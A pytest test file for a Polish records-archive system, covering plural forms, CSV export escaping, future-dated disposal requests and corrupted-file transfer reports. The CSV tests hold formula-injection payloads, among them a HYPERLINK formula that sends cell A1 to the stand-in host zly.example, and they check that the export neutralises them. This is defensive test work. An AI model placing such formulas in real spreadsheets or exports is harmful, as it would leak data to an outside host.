"""Safe and correct generated files: Polish plurals, formula-safe CSV, no disposal requests dated in
the future, and a transfer report that tells a failed preparation as failed."""

from __future__ import annotations

import csv
import io
import os
from collections.abc import Iterator
from datetime import date, timedelta
from pathlib import Path

import pytest
from sqlalchemy import select

from ezd.archive_ops import disposal
from ezd.archive_ops.register import load_case_documents
from ezd.db.tables import CaseFile
from ezd.db.tables_archive import ArchiveEntry, DisposalRequest
from ezd.records.csvsafe import safe_cell, safe_row
from ezd.records.errors import InvalidInput
from ezd.records.plural import DOKUMENT, SPRAWA, count, plural
from ezd.services.actor import system_actor
from ezd.services.lookup import case_by_sign, tenant_by_code
from ezd.storage.local import LocalObjectStore
from tests.archive.helpers import add_entry
from tests.test_cli import ezd
from tests.web.conftest import Site, make_site

ARCHIVIST = system_actor("archiwista-test")


@pytest.mark.parametrize(
    ("n", "word"),
    [
        (0, "spraw"),
        (1, "sprawa"),
        (2, "sprawy"),
        (4, "sprawy"),
        (5, "spraw"),
        (11, "spraw"),
        (12, "spraw"),
        (14, "spraw"),
        (21, "spraw"),
        (22, "sprawy"),
        (104, "sprawy"),
        (112, "spraw"),
        (1000, "spraw"),
    ],
)
def test_polish_plural(n: int, word: str) -> None:
    assert plural(n, SPRAWA) == word


def test_count_phrases() -> None:
    assert [count(n, DOKUMENT) for n in (1, 3, 7, 23)] == [
        "1 dokument",
        "3 dokumenty",
        "7 dokumentów",
        "23 dokumenty",
    ]


def test_csv_cells_never_run_as_formulas() -> None:
    hostile = ['=HYPERLINK("http://x"&A1,"kliknij")', "+48 600", "-1+2", "@SUM(A1)", "\t=1", "\r=1"]
    assert [safe_cell(v) for v in hostile] == ["'" + v for v in hostile]
    assert safe_row(["Decyzja", 5, None, "a=b"]) == ["Decyzja", "5", "", "a=b"]  # ordinary text unchanged


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    s = make_site(tmp_path_factory.mktemp("generated") / "ezd")
    yield s
    s.app.db.dispose()


def test_archive_csv_export_is_formula_safe(site: Site) -> None:
    sign = site.world.archived("sp-swidnik")
    title = '=HYPERLINK("http://zly.example/?"&A1,"Wniosek")'  # as a resident's ePUAP title arrived
    with site.app.uow() as uow:
        t = tenant_by_code(uow.session, "sp-swidnik")
        case_by_sign(uow.session, t.id, sign).title = title
        entry = uow.session.execute(select(ArchiveEntry).where(ArchiveEntry.case_sign == sign)).scalar_one()
        entry.title = title
        uow.commit()
    r = site.client("sw.archiwista").get("/api/v1/tenants/sp-swidnik/archive/export.csv")
    assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig")), delimiter=";"))
    (row,) = [x for x in rows if x["sign"] == sign]
    assert row["title"] == "'" + title
    assert not any(v.startswith(("=", "+", "-", "@")) for x in rows for v in x.values() if v)


def test_disposal_request_dated_in_the_future_is_refused(site: Site) -> None:
    add_entry(
        site.app,
        tenant="ug-melgiew",
        sign="OR.0001.1.2014",
        title="Zaproszenia",
        category="B5",
        retention_until=date(2020, 1, 1),
        store=site.app.store,
    )
    later = date.today() + timedelta(days=2)  # two days: beyond any UTC/Warsaw difference
    with site.app.uow() as uow, pytest.raises(InvalidInput, match="z przyszłości"):
        disposal.request_disposal(uow.session, site.app.store, ARCHIVIST, tenant="ug-melgiew", as_of=later)
    with site.app.uow() as uow:
        assert uow.session.execute(select(DisposalRequest)).first() is None  # nothing numbered
    refused = ezd(
        site.home,
        "archive",
        "dispose",
        "request",
        "--tenant",
        "ug-melgiew",
        "--as-of",
        "2030-01-02",
        check=False,
    )
    assert refused.returncode == 2 and "z przyszłości" in refused.stderr and "Traceback" not in refused.stderr


def test_transfer_reports_a_failed_preparation_as_failed(site: Site) -> None:
    good, bad = site.world.closed("sp-swidnik"), site.world.closed("sp-swidnik")
    with site.app.uow() as uow:
        t = tenant_by_code(uow.session, "sp-swidnik")
        digest = load_case_documents(uow.session, case_by_sign(uow.session, t.id, bad).id).version_digests()[
            -1
        ]
    store = site.app.store
    assert isinstance(store, LocalObjectStore)
    path = Path(store.path_of(digest))
    os.chmod(path, 0o644)
    raw = path.read_bytes()
    path.write_bytes(bytes([raw[0] ^ 1]) + raw[1:])  # bit rot: same size, other digest
    run = ezd(site.home, "archive", "transfer", "--as-of", "2031-01-01", "-t", "sp-swidnik", check=False)
    assert run.returncode == 1, run.stdout + run.stderr
    assert f"sp-swidnik {bad}: przygotowanie nie powiodło się" in run.stderr
    assert f"sp-swidnik {good}: przygotowana" in run.stdout
    assert "nieudane: 1 sprawa" in run.stdout
    with site.app.uow() as uow:
        states = {c.sign: c.state for c in uow.session.execute(select(CaseFile)).scalars()}
    assert states[bad] == "closed"  # nothing archived from a damaged case
